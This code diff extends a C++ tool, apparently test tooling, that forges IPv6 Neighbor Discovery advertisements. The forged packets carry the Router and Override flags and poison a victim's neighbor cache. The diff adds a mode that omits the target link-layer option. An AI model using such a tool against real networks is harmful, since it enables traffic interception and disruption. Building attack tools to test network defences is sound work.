@@ -2,6 +2,8 @@
 //   tw_nd_attacker <link> advertise <claimed-ip6> <victim-ip6> <victim-mac> <count>
 //       unsolicited advertisements "claimed-ip6 is at this link's MAC" with the Router and
 //       Override flags, sent to the victim, as fast as possible
+//   tw_nd_attacker <link> advertise-bare <claimed-ip6> <victim-ip6> <victim-mac> <count>
+//       the same without the target link-layer address option: the Ethernet source names the MAC
 //   tw_nd_attacker <link> answer <claimed-ip6> <count>
 //   tw_nd_attacker <link> answer-after <delay-ms> <claimed-ip6> <count>
 //       prints "ready" once listening, then answers <count> solicitations for claimed-ip6 (0:
@@ -190,14 +192,18 @@ int main(int argc, char** argv) {
     }
     const nd::MacAddress ownMac = LinkMac(link);
     try {
-        if (mode == "advertise" && argc == 7) {
+        if ((mode == "advertise" || mode == "advertise-bare") && argc == 7) {
             const Ipv6Bytes claimed = ParseIp6(argv[3]);
             const Ipv6Bytes victim = ParseIp6(argv[4]);
             const nd::MacAddress victimMac = ParseMac(argv[5]);
             const long count = ParseCount(argv[6]);
             nd::NdSocket socket(index, Core_SocketARP::arp::DropAllFilter());
-            const auto packet = nd::Encode(
-                Advertisement(claimed, victim, ownMac, nd::flag_router | nd::flag_override));
+            nd::Message advertisement =
+                Advertisement(claimed, victim, ownMac, nd::flag_router | nd::flag_override);
+            if (mode == "advertise-bare") {
+                advertisement.targetLinkAddresses.clear();
+            }
+            const auto packet = nd::Encode(advertisement);
             for (long i = 0; i < count; ++i) {
                 socket.Send(packet, index, victimMac);
             }
